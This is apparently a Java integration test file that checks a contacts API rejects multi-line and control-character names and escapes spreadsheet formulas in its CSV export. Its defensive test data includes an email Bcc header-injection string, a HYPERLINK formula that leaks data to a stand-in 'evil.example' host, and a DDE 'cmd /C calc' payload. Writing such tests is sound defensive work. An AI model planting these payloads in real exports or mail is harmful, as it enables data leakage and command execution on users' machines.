package org.chorus.distribution.contacts;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.chorus.distribution.MailProvider;
import org.chorus.platform.text.Csv;
import org.chorus.testsupport.ChorusServiceTest;
import org.chorus.testsupport.Http;
import org.chorus.testsupport.Mailbox;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Contacts, lists and segments hold one-line text only; contacts.csv opens in a spreadsheet as plain text. */
@ChorusServiceTest
class ContactTextTest {

    @LocalServerPort
    int port;

    @Autowired
    JdbcClient jdbc;

    Http http;

    @BeforeEach
    void client() {
        http = new Http("http://localhost:" + port);
    }

    @Test
    void aContactNameWithALineBreakIsRefusedNamingTheFieldAndNothingIsStored() {
        String listId = newList();

        Http.Response refused = http.postJson(
                "/api/contact-lists/" + listId + "/contacts",
                Map.of("name", "Amina\nBcc: everyone@evil.example", "email", Mailbox.uniqueAddress("amina")));
        Http.Response segment =
                http.postJson("/api/contact-lists/" + listId + "/segments", Map.of("name", "Press\u2028Forged"));

        assertThat(refused.status()).isEqualTo(400);
        assertThat(refused.contentType()).startsWith("application/problem+json");
        assertThat(refused.json().at("/errors/0/field").asString()).isEqualTo("name");
        assertThat(segment.status()).isEqualTo(400);
        assertThat(http.get("/api/contact-lists/" + listId).json().get("contacts"))
                .isEmpty();
    }

    @Test
    void aCsvCellWithALineBreakOrAControlIsARowErrorAndNothingIsImported() {
        String listId = newList();
        String csv = "name,email,outlet\n\"Two\nLines\"," + Mailbox.uniqueAddress("two") + ",Outlet\n"
                + "Bell," + Mailbox.uniqueAddress("bell") + ",Out\u0007let\n"
                + "\u202EInvisible\u200B," + Mailbox.uniqueAddress("fine") + ",\n";

        HttpResponse<String> report = postCsv("/api/contact-lists/" + listId + "/imports?dryRun=true", csv);
        JsonNode errors = JsonMapper.builder().build().readTree(report.body()).get("errors");

        assertThat(errors.size()).isGreaterThanOrEqualTo(2);
        assertThat(errors.get(0).get("row").asInt()).isEqualTo(2);
        assertThat(errors.get(0).get("field").asString()).isEqualTo("name");
        assertThat(errors.get(0).get("message").asString()).contains("one line");
        assertThat(errors)
                .anySatisfy(error -> assertThat(error.get("field").asString()).isEqualTo("outlet"));
        assertThat(postCsv("/api/contact-lists/" + listId + "/imports", csv).statusCode())
                .isEqualTo(422);
        assertThat(http.get("/api/contact-lists/" + listId).json().get("contacts"))
                .isEmpty();
    }

    @Test
    void aFormulaInAContactNameArrivesInTheSpreadsheetAsText() {
        String listId = newList();
        String formula = "=HYPERLINK(\"http://evil.example/?leak\",\"Click\")";
        assertThat(http.postJson(
                                "/api/contact-lists/" + listId + "/contacts",
                                Map.of("name", formula, "email", Mailbox.uniqueAddress("formula")))
                        .status())
                .isEqualTo(201);
        String planted = Mailbox.uniqueAddress("planted");
        http.postJson("/api/contact-lists/" + listId + "/contacts", Map.of("name", "Planted", "email", planted));
        // a row stored before names were normalised at the door
        jdbc.sql("update contact set name = ?, outlet = ? where email = ?")
                .params("=1+1\nsecond line", " +cmd|' /C calc'!A0", planted)
                .update();

        List<List<String>> rows = Csv.parse(
                http.get("/api/contact-lists/" + listId + "/contacts.csv").body());

        assertThat(rows).hasSize(3);
        assertThat(rows.stream().map(row -> row.get(0))).contains("'" + formula, "'=1+1\nsecond line");
        assertThat(rows.stream().map(row -> row.get(2))).contains("' +cmd|' /C calc'!A0");
    }

    @Test
    void aNulCharacterInAContactAListOrABounceIs400ProblemJson() {
        String listId = newList();

        List<Http.Response> answers = List.of(
                http.postJson("/api/contact-lists", "{\"name\":\"List\\u0000\"}"),
                http.postJson(
                        "/api/contact-lists/" + listId + "/contacts",
                        "{\"name\":\"Nul\\u0000\",\"email\":\"nul@example.org\"}"),
                MailProvider.reportJson(http, "{\"messageId\":\"<x\\u0000@y>\",\"hard\":true}"));

        assertThat(answers).allSatisfy(answer -> {
            assertThat(answer.status()).as(answer.body()).isEqualTo(400);
            assertThat(answer.contentType()).startsWith("application/problem+json");
        });
        assertThat(answers.get(1).json().at("/errors/0/field").asString()).isEqualTo("name");
    }

    private HttpResponse<String> postCsv(String path, String csv) {
        try {
            return HttpClient.newHttpClient()
                    .send(
                            HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
                                    .header("Content-Type", "text/csv; charset=UTF-8")
                                    .POST(HttpRequest.BodyPublishers.ofString(csv))
                                    .build(),
                            HttpResponse.BodyHandlers.ofString());
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private String newList() {
        return http.postJson("/api/contact-lists", Map.of("name", "List " + UUID.randomUUID()))
                .json()
                .get("id")
                .asString();
    }
}
